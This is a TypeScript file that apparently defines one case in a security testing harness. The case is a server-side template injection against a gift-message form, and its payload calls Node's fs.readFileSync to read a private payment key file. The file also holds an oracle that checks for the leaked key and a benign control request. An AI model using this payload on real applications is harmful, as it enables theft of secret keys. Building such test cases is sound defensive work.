import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Reads the key file from inside a greeting template. */
export const templateGiftFile: Attack = defineAttack({
  id: 'template-gift-file',
  class: 'template-injection',
  title: 'Reads the key file from inside a greeting template',
  cwe: 1336,
  capec: 242,
  technique: 'T1059.007',
  preconditions: ['the folder of the application is known'],

  steps: ({ visitor, witness }) => {
    const path = `${witness.folder}/private/payment.key`
    return visitor.form('/gift', { message: `{{process.getBuiltinModule('fs').readFileSync('${path}')}}` })
  },
  oracle: (answer, { witness }) => answer.text.includes(witness.loot.fileKey),
  twin: ({ visitor }) =>
    visitor.form('/gift', { name: 'Ada', occasion: 'birthday', message: 'For {{name}} ({{occasion}})!' }),
})
